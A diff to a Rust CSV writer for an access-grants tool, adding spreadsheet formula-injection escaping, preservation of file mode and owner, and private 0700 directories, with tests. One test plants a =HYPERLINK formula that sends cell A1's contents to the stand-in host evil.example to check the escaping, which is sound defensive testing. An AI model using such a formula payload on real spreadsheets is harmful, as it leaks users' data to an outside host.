@@ -2,8 +2,13 @@
 //! to the same `Org`: for `gen`, and for `apply` replacing `grants.csv`.
 //!
 //! Every file is replaced atomically: written to a temporary file in the
-//! same directory, synced, renamed over the old one, and the directory synced.
+//! same directory, given the old file's mode and owner, synced, renamed over
+//! the old one, and the directory synced. A directory created here is 0700.
 //! Shifts are written into `rotations.toml`; no `rotations/*.ics` is written.
+//!
+//! Every CSV cell is safe to open in a spreadsheet: one that begins with
+//! `=`, `+`, `-`, `@`, a tab or a carriage return (free text only: ids never
+//! do) is written with a leading `'`, which the reader takes off again.
 
 use crate::model::*;
 use anyhow::{Context, Result, bail};
@@ -43,7 +48,7 @@ fn optional_time(t: Option<Time>) -> String {
 /// back grouped by area in area order; an entitlement whose area is not in
 /// `org.areas` cannot be written and is an error. Times keep whole seconds.
 pub fn write_org(org: &Org, dir: &Path) -> Result<()> {
-    std::fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
+    crate::paths::create_private_dir(dir)?;
     replace_file(&dir.join("grants.csv"), |w| grants_csv(&org.grants, w))?;
     write_all_but_grants(org, dir)
 }
@@ -55,7 +60,7 @@ pub fn write_org_streaming(
     dir: &Path,
     make: impl FnOnce(&mut dyn FnMut(&Grant) -> Result<(), GrantError>) -> Result<Org, GrantError>,
 ) -> Result<Org> {
-    std::fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
+    crate::paths::create_private_dir(dir)?;
     let mut org = Org::default();
     replace_file(&dir.join("grants.csv"), |out| {
         let mut w = csv::Writer::from_writer(out);
@@ -98,6 +103,16 @@ pub fn write_grants(grants: &[Grant], path: &Path) -> Result<()> {
     replace_file(path, |w| grants_csv(grants, w))
 }
 
+/// A cell as a spreadsheet may open it: text that a spreadsheet would take
+/// for a formula gets a leading `'`.
+fn cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
 /// Writes a CSV table: the header, then one record per call of `rows`.
 fn write_csv<W: Write>(
     out: W,
@@ -115,10 +130,10 @@ fn people_csv(people: &[Person], out: &mut dyn Write) -> Result<()> {
     write_csv(out, &["id", "name", "email", "manager", "status"], |w| {
         for p in people {
             w.write_record([
-                p.id.as_str(),
-                &p.name,
-                &p.email,
-                p.manager.as_deref().unwrap_or(""),
+                cell(&p.id).as_ref(),
+                cell(&p.name).as_ref(),
+                cell(&p.email).as_ref(),
+                cell(p.manager.as_deref().unwrap_or("")).as_ref(),
                 p.status.as_str(),
             ])?;
         }
@@ -130,10 +145,10 @@ fn trainings_csv(trainings: &[Training], out: &mut dyn Write) -> Result<()> {
     write_csv(out, &["person", "course", "completed", "expires"], |w| {
         for t in trainings {
             w.write_record([
-                t.person.as_str(),
-                &t.course,
-                &time(t.completed),
-                &optional_time(t.expires),
+                cell(&t.person).as_ref(),
+                cell(&t.course).as_ref(),
+                time(t.completed).as_str(),
+                optional_time(t.expires).as_str(),
             ])?;
         }
         Ok(())
@@ -174,12 +189,12 @@ fn grant_record<W: Write>(
         Basis::Manual => basis.push_str("manual"),
     }
     w.write_record([
-        g.person.as_str(),
-        &g.entitlement,
-        g.granted_by.as_deref().unwrap_or(""),
-        &time(g.granted_at),
-        basis,
-        &optional_time(g.expires),
+        cell(&g.person).as_ref(),
+        cell(&g.entitlement).as_ref(),
+        cell(g.granted_by.as_deref().unwrap_or("")).as_ref(),
+        time(g.granted_at).as_str(),
+        basis.as_str(),
+        optional_time(g.expires).as_str(),
     ])
 }
 
@@ -426,7 +441,8 @@ fn replace_text(path: &Path, text: &str) -> Result<()> {
 }
 
 /// Replaces `path` atomically with what `fill` writes: a temporary file in
-/// the same directory, synced, renamed over `path`; then the directory is synced.
+/// the same directory, with the mode and owner of the file it replaces,
+/// synced, renamed over `path`; then the directory is synced.
 fn replace_file(path: &Path, fill: impl FnOnce(&mut dyn Write) -> Result<()>) -> Result<()> {
     let dir = match path.parent() {
         Some(d) if !d.as_os_str().is_empty() => d,
@@ -447,6 +463,7 @@ fn replace_file(path: &Path, fill: impl FnOnce(&mut dyn Write) -> Result<()>) ->
             .create_new(true)
             .open(&tmp)
             .with_context(|| format!("cannot create {}", tmp.display()))?;
+        keep_mode_and_owner(path, &file, &tmp)?;
         let mut w = BufWriter::with_capacity(1 << 16, &file);
         fill(&mut w).with_context(|| format!("cannot write {}", tmp.display()))?;
         w.flush()
@@ -462,6 +479,45 @@ fn replace_file(path: &Path, fill: impl FnOnce(&mut dyn Write) -> Result<()>) ->
         return Err(e);
     }
     sync_dir(dir)
+}
+
+/// Gives `file` (the temporary `tmp`) the mode and owner of `path`, when
+/// `path` exists: a rewritten grants.csv stays as private as it was.
+#[cfg(unix)]
+fn keep_mode_and_owner(path: &Path, file: &std::fs::File, tmp: &Path) -> Result<()> {
+    use std::os::unix::fs::MetadataExt;
+    let old = match std::fs::metadata(path) {
+        Ok(m) => m,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
+        Err(e) => return Err(e).with_context(|| format!("cannot read {}", path.display())),
+    };
+    let new = file.metadata()?;
+    if (old.uid(), old.gid()) != (new.uid(), new.gid()) {
+        std::os::unix::fs::fchown(file, Some(old.uid()), Some(old.gid())).with_context(|| {
+            format!(
+                "cannot give {} the owner of {} (uid {}, gid {})",
+                tmp.display(),
+                path.display(),
+                old.uid(),
+                old.gid()
+            )
+        })?;
+    }
+    file.set_permissions(old.permissions()).with_context(|| {
+        format!(
+            "cannot give {} the mode of {}",
+            tmp.display(),
+            path.display()
+        )
+    })
+}
+
+#[cfg(not(unix))]
+fn keep_mode_and_owner(path: &Path, file: &std::fs::File, _tmp: &Path) -> Result<()> {
+    if let Ok(m) = std::fs::metadata(path) {
+        file.set_permissions(m.permissions())?;
+    }
+    Ok(())
 }
 
 #[cfg(unix)]
@@ -751,6 +807,45 @@ mod tests {
         org.entitlements[0].area = "nowhere".into();
         let e = write_org(&org, dir.path()).unwrap_err().to_string();
         assert!(e.contains("nowhere"), "{e}");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn a_rewritten_file_keeps_its_mode_and_new_directories_are_private() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = tempfile::tempdir().unwrap();
+        let org_dir = dir.path().join("a").join("org");
+        write_org(&small_org(), &org_dir).unwrap();
+        for d in [dir.path().join("a"), org_dir.clone()] {
+            let mode = std::fs::metadata(&d).unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode, 0o700, "{}", d.display());
+        }
+        let grants = org_dir.join("grants.csv");
+        for wanted in [0o600, 0o640] {
+            std::fs::set_permissions(&grants, std::fs::Permissions::from_mode(wanted)).unwrap();
+            write_grants(&small_org().grants, &grants).unwrap();
+            let mode = std::fs::metadata(&grants).unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode, wanted);
+        }
+    }
+
+    #[test]
+    fn formula_like_text_is_written_spreadsheet_safe_and_reads_back() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut org = small_org();
+        org.people[0].name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")".into();
+        org.people[1].name = "+1 555".into();
+        org.people[2].email = "@cy".into();
+        write_org(&org, dir.path()).unwrap();
+        let text = std::fs::read_to_string(dir.path().join("people.csv")).unwrap();
+        for line in text.lines() {
+            for field in line.split(',') {
+                let field = field.trim_start_matches('"');
+                assert!(!field.starts_with(['=', '+', '-', '@']), "{line}");
+            }
+        }
+        assert!(text.contains("'=HYPERLINK"), "{text}");
+        assert_eq!(read_org(dir.path()).unwrap(), org);
     }
 
     #[test]
